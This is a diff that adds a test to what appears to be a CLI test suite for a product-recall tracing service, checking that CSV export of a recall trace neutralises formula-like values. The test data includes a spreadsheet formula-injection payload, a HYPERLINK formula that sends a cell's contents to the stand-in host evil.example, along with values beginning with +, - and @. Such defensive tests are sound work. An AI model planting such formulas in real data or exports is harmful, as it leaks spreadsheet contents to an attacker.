@@ -131,3 +131,26 @@ test.serial('svc recall create, approve, show, list, remind and close', async (t
   t.is(approved.code, 0, approved.stderr);
   t.like(JSON.parse(approved.stdout), { status: 'Open', customers_affected: 2 });
 });
+
+test.serial('svc recall trace --format csv: a vendor lot that looks like a formula is written inert (leading quote)', async (t) => {
+  // the gauze: the glove is under an all-lots recall by now
+  await order(db, 'SO-CLI-9', { lines: [['MEDI-GAUZE-4X4', MEDI.name, 1]] });
+  const medi = await vendorClient(app, MEDI);
+  const lot = '=HYPERLINK("http://evil.example/?"&A2,"L-7")';
+  const res = await v1(medi, 'sync.fulfillment', {
+    data: {
+      sales_order: 'SO-CLI-9',
+      tracking_number: '@1Z-CLI-9',
+      notify: false,
+      items: [{ sku: 'MEDI-GAUZE-4X4', lot_number: lot, serial_numbers: ['+S-1', '-S-2'] }],
+    },
+  });
+  t.is(res.status, 200, res.text);
+  const csv = join(dir, 'formula.csv');
+  const out = await run(['recall', 'trace', '--order', 'SO-CLI-9', '--format', 'csv', '--output', csv]);
+  t.is(out.code, 0, out.stderr);
+  const row = readFileSync(csv, 'utf8').trim().split('\n')[1];
+  t.true(row.includes(`"'=HYPERLINK(""http://evil.example/?""&A2,""L-7"")"`), row);
+  t.true(row.includes(`'+S-1 -S-2`), row);
+  t.true(row.includes(`,'@1Z-CLI-9,`), row);
+});
